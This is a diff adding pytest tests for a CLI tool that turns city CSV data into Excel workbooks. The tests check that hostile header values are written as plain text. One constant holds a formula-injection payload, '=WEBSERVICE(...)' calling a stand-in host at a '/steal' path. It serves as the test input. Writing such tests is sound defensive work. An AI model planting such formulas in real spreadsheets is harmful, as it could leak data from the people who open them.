@@ -1,0 +1,91 @@
+"""Hostile input and server faults (issue 15): no live formula, no network fetch,
+no bomb, no crash, no silent corruption.
+
+Each test runs the command a user would run and asserts the exit code and the
+exact line they read. The SPARQL server cases use small local HTTP servers
+that misbehave on purpose; the Virtuoso crash test lives in
+``tests/test_endpoint_durability.py``.
+"""
+from __future__ import annotations
+
+import pathlib
+import re
+import shutil
+import subprocess
+import sys
+import zipfile
+
+import pytest
+from click.testing import CliRunner
+
+from cli import main
+
+ROOT = pathlib.Path(__file__).resolve().parents[1]
+BASE = ROOT / "tests" / "data" / "ingest" / "base"
+FORMULA_HEADER = '=WEBSERVICE("http://example.invalid/steal")'
+
+
+def city(tmp_path, name="kota", **tables) -> pathlib.Path:
+    """A copy of the valid base city; ``tables`` replaces files (bytes or text)."""
+    folder = tmp_path / name
+    shutil.copytree(BASE, folder)
+    for table, content in tables.items():
+        path = folder / f"{table}.csv"
+        if isinstance(content, bytes):
+            path.write_bytes(content)
+        else:
+            path.write_text(content, encoding="utf-8")
+    return folder
+
+
+def base_text(table) -> str:
+    return (BASE / f"{table}.csv").read_text(encoding="utf-8")
+
+
+def run(*args):
+    return CliRunner().invoke(main, [str(a) for a in args])
+
+
+def formula_cells(path) -> list[str]:
+    """Every cell formula (``<f>`` element) in the worksheets of an .xlsx file."""
+    found = []
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                found += re.findall(r"<f[ >/].*?(?:</f>|/>)", archive.read(name).decode("utf-8"))
+    return found
+
+
+# ------------------------------------------------------------- 1. formula headers
+def with_formula_header(tmp_path):
+    text = base_text("programs").splitlines()
+    text[0] += f',"{FORMULA_HEADER.replace(chr(34), chr(34) * 2)}"'
+    text[1] += ",x"
+    return city(tmp_path, programs="\n".join(text) + "\n")
+
+
+def test_merge_writes_a_formula_header_as_text_and_the_workbook_loads_again(tmp_path):
+    source = with_formula_header(tmp_path)
+    target = tmp_path / "kota.xlsx"
+    result = run("merge", source, "-o", target)
+    assert result.exit_code == 0, result.output
+    assert formula_cells(target) == []
+    again = run("merge", target, "-o", tmp_path / "lagi.xlsx")
+    assert again.exit_code == 0, again.output
+    assert formula_cells(tmp_path / "lagi.xlsx") == []
+    import openpyxl
+
+    header = [c.value for c in openpyxl.load_workbook(tmp_path / "lagi.xlsx")["programs"][1]]
+    assert header[-1] == FORMULA_HEADER.lower()  # extra columns keep their folded name
+
+
+def test_template_for_an_agency_writes_a_formula_header_as_text(tmp_path):
+    source = with_formula_header(tmp_path)
+    target = tmp_path / "formulir.xlsx"
+    result = run("template", source, "--agency", "DISKOMINFOTIK", "-o", target)
+    assert result.exit_code == 0, result.output
+    assert formula_cells(target) == []
+    import openpyxl
+
+    header = [c.value for c in openpyxl.load_workbook(target)["programs"][1]]
+    assert FORMULA_HEADER.lower() in header
